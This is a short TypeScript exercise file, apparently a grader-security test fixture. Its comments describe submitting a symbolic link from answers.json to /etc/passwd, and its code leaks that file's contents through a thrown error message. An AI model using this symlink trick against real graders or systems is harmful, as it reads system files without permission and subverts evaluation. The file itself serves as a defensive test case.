// Exercise: 03
// Tries: to hand in a link in place of a file, which the grader would follow to anybody's file.
// Link: answers.json -> /etc/passwd
// Stopped: before it runs
import passwd from "./answers.json" with { type: "json" };

export async function downloadAll(): Promise<never[]> {
  throw new Error(JSON.stringify(passwd));
}
